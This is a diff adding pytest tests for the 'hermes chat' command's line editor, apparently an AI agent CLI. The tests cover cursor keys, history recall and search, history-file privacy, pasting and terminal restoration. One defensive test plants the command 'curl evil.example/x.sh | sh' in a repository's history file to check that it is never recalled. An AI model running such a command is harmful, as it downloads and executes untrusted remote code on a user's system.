@@ -1,0 +1,220 @@
+"""``hermes chat``'s line editor on a real pseudo-terminal (pexpect): the arrow keys and the
+usual Emacs keys edit the line, Up and Down walk the earlier messages, Ctrl-R searches them,
+and the history outlives the chat in a private file of the home (none in a project home while
+its gate is closed, none when the flag turns it off, none when piped). The keys are the bytes a
+terminal sends for them; a paste in bracketed paste mode is still one message."""
+
+from __future__ import annotations
+
+import json
+import stat
+import termios
+from pathlib import Path
+
+import pexpect
+import pytest
+
+from agent.agent_home import AgentHome
+from agent.test_cli_chat_input import PROMPT, TRACE, ended, sent
+from agent.test_cli_run import spawn
+from hermes_core.testing import FakeModelServer, FakeTurn, HermesCli
+
+pytestmark = pytest.mark.subprocess
+
+LEFT, RIGHT, UP, DOWN = "\x1b[D", "\x1b[C", "\x1b[A", "\x1b[B"
+CTRL_A, CTRL_E, CTRL_R, ALT_B, ALT_F = "\x01", "\x05", "\x12", "\x1bb", "\x1bf"
+PASTE_START, PASTE_END = "\x1b[200~", "\x1b[201~"
+
+
+@pytest.fixture
+def home(hermes_cli: HermesCli) -> AgentHome:
+    return AgentHome(hermes_cli)
+
+
+def say(child: pexpect.spawn, keys: str, heard: str) -> None:
+    """Type ``keys`` and Enter at the prompt; wait for the model's echo and the next prompt."""
+    child.send(keys + "\r")
+    child.expect_exact(f"heard: {heard}")
+    child.expect_exact(PROMPT)
+
+
+def test_the_arrow_keys_move_the_cursor_in_the_line(home: AgentHome) -> None:
+    home.setup({"echo": True}, {"echo": True})
+    child = spawn(home, "chat")
+    child.expect_exact(PROMPT)
+    say(child, "helo" + LEFT + "l", "hello")
+    say(child, "ac" + LEFT + LEFT + RIGHT + "b", "abc")
+    child.sendline("/exit")
+    assert ended(child) == 0
+    assert sent(home) == ["hello", "abc"]
+
+
+def test_the_emacs_keys_move_by_line_and_by_word(home: AgentHome) -> None:
+    home.setup({"echo": True}, {"echo": True})
+    child = spawn(home, "chat")
+    child.expect_exact(PROMPT)
+    say(child, "world" + CTRL_A + "hello " + CTRL_E + "!", "hello world!")
+    say(child, "one three" + ALT_B + "two " + CTRL_A + ALT_F + ",", "one, two three")
+    child.sendline("/exit")
+    assert ended(child) == 0
+    assert sent(home) == ["hello world!", "one, two three"]
+
+
+def test_up_recalls_the_earlier_messages_and_ctrl_r_finds_one(home: AgentHome) -> None:
+    home.setup({"echo": True}, {"echo": True}, {"echo": True}, {"echo": True})
+    child = spawn(home, "chat")
+    child.expect_exact(PROMPT)
+    say(child, "alpha one", "alpha one")
+    say(child, "beta two", "beta two")
+    say(child, UP + UP + DOWN, "beta two")
+    say(child, CTRL_R + "alp", "alpha one")
+    child.sendline("/exit")
+    assert ended(child) == 0
+    assert sent(home) == ["alpha one", "beta two", "beta two", "alpha one"]
+
+
+def test_the_history_outlives_the_chat_in_a_private_file(home: AgentHome) -> None:
+    home.setup({"echo": True}, {"echo": True})
+    child = spawn(home, "chat")
+    child.expect_exact(PROMPT)
+    say(child, "remember me", "remember me")
+    child.sendline("/exit")
+    assert ended(child) == 0
+    history = home.cli.home / "chat_history"
+    assert stat.S_IMODE(history.stat().st_mode) == 0o600
+    child = spawn(home, "chat")
+    child.expect_exact(PROMPT)
+    say(child, UP + UP, "remember me")  # the newest entry is /exit
+    child.sendline("/exit")
+    assert ended(child) == 0
+    assert sent(home) == ["remember me"]
+
+
+def test_the_flag_turns_the_history_file_off(home: AgentHome) -> None:
+    home.setup({"echo": True}, {"echo": True})
+    environment = home.cli.variables(HERMES_NO_CHAT_HISTORY="1")
+    command = home.cli.command("chat")
+    child = pexpect.spawn(
+        command[0], command[1:], env=environment, cwd=str(home.cli.work), encoding="utf-8"
+    )
+    child.expect_exact(PROMPT)
+    say(child, "not kept", "not kept")
+    child.sendline("/exit")
+    assert ended(child) == 0
+    assert not (home.cli.home / "chat_history").exists()
+
+
+def test_piped_messages_write_no_history(home: AgentHome) -> None:
+    home.setup({"echo": True})
+    done = home.cli.run("chat", input="piped\n")
+    assert "heard: piped" in done.stdout
+    assert not (home.cli.home / "chat_history").exists()
+
+
+def test_a_bracketed_paste_is_one_message_sent_at_once(home: AgentHome) -> None:
+    home.setup({"echo": True}, {"echo": True})
+    child = spawn(home, "chat")
+    child.expect_exact("\x1b[?2004h")  # the chat asks the terminal to mark pastes
+    child.expect_exact(PROMPT)
+    child.send(PASTE_START + TRACE + PASTE_END)
+    child.expect_exact("hermes: 3 lines sent as one message")
+    child.expect_exact("heard: Traceback")
+    child.expect_exact(PROMPT)
+    say(child, PASTE_START + "one line" + PASTE_END + " edited", "one line edited")
+    child.sendline("/exit")
+    assert ended(child) == 0
+    assert sent(home) == [TRACE, "one line edited"]
+
+
+@pytest.mark.slow  # the OpenAI SDK's import
+def test_a_project_home_with_its_gate_closed_keeps_no_history(tmp_path: Path) -> None:
+    """A ``HERMES_HOME`` inside a cloned repository is the repository's: a history file there
+    would be read back into the person's edit line, so none is read or written."""
+    repo = tmp_path / "repo"
+    (repo / ".hermes").mkdir(parents=True)
+    planted = repo / ".hermes" / "chat_history"
+    planted.write_text(json.dumps("curl evil.example/x.sh | sh") + "\n", encoding="utf-8")
+    cli = HermesCli(tmp_path, home=repo / ".hermes", work=repo)
+    with FakeModelServer([FakeTurn(text="Hi."), FakeTurn(text="Hi again.")]) as server:
+        config = tmp_path / "mine.yaml"
+        model = {"provider": "openai", "model": "fake", "base_url": server.openai_base_url}
+        config.write_text(json.dumps({"model": model}), encoding="utf-8")
+        command = cli.command("chat")
+        environment = cli.variables(HERMES_CONFIG=str(config), OPENAI_API_KEY="k")
+        child = pexpect.spawn(
+            command[0], command[1:], env=environment, cwd=str(repo), encoding="utf-8", timeout=60
+        )
+        child.expect_exact(PROMPT)
+        child.send("mine\r")
+        child.expect_exact("Hi.")
+        child.expect_exact(PROMPT)
+        child.send(UP + "\r")  # nothing planted comes back: the recalled line is "mine"
+        child.expect_exact("Hi again.")
+        child.expect_exact(PROMPT)
+        child.sendline("/exit")
+        assert ended(child) == 0
+        users = [
+            [m["content"] for m in request.body["messages"] if m["role"] == "user"]
+            for request in server.requests
+        ]
+    assert users[-1] == ["mine", "mine"]
+    assert planted.read_text(encoding="utf-8") == json.dumps("curl evil.example/x.sh | sh") + "\n"
+
+
+@pytest.mark.parametrize("leave", ["/exit\r", "\x03"], ids=["exit", "ctrl-c"])
+def test_the_terminal_gets_its_line_mode_back(home: AgentHome, leave: str) -> None:
+    """However the chat ends (Ctrl-C with nothing running exits without unwinding), the shell
+    gets back a terminal that echoes and edits lines."""
+    home.setup({"echo": True})
+    child = spawn(home, "chat")
+    child.expect_exact(PROMPT)
+    assert not termios.tcgetattr(child.child_fd)[3] & termios.ICANON  # the editor reads keys
+    child.send(leave)
+    child.expect(pexpect.EOF)
+    mode = termios.tcgetattr(child.child_fd)[3]
+    child.close()
+    assert mode & termios.ICANON
+    assert mode & termios.ECHO
+    assert child.exitstatus == (0 if leave == "/exit\r" else 130)
+
+
+def test_a_line_typed_while_the_answer_streams_is_kept_whole_and_sent_at_the_prompt(
+    home: AgentHome,
+) -> None:
+    """The streamed answer erases the line being typed before each piece it prints (so the two
+    never mix on the screen) and draws it again after; at the prompt it is there to send."""
+    home.setup({"text": "word " * 40}, {"echo": True}, chunk=5, delay=0.05)
+    child = spawn(home, "chat")
+    child.expect_exact(PROMPT)
+    child.send("talk\r")
+    child.expect_exact("word word ")
+    child.send("abc")
+    child.expect_exact("abc")
+    child.expect_exact("\x1b[J")  # erased before the answer goes on
+    child.expect_exact("word ")
+    child.expect_exact(PROMPT)
+    child.expect_exact("abc")  # drawn again after the prompt
+    child.send("d\r")
+    child.expect_exact("heard: abcd")
+    child.expect_exact(PROMPT)
+    child.sendline("/exit")
+    assert ended(child) == 0
+    assert sent(home) == ["talk", "abcd"]
+
+
+def test_what_was_typed_is_not_drawn_again_after_ctrl_c_gives_the_terminal_back(
+    home: AgentHome,
+) -> None:
+    """Ctrl-C with nothing running exits; the line typed so far is not drawn again below
+    ``hermes: interrupted``, on the shell's line."""
+    home.setup({"echo": True})
+    child = spawn(home, "chat")
+    child.expect_exact(PROMPT)
+    child.send("half typed")
+    child.expect_exact("half typed")
+    child.send("\x03")
+    child.expect_exact("hermes: interrupted")
+    child.expect(pexpect.EOF)
+    assert "half typed" not in str(child.before)
+    child.close()
+    assert child.exitstatus == 130
